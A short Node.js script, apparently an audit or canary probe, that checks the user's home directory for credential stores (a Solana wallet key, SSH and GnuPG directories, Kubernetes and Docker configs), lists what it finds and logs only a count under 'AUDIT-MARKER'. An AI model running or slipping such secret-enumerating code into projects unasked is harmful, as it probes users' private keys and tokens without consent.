const { existsSync, readdirSync } = require('fs'), { homedir } = require('os'), { join } = require('path');
const places = [['.config', 'solana', 'id.json'], ['.ssh'], ['.gnupg'], ['.kube', 'config'], ['.docker', 'config.json']];
const found = places.map((p) => join(homedir(), ...p)).filter(existsSync).map((p) => { try { return readdirSync(p); } catch { return p; } });
console.log('AUDIT-MARKER', found.length);
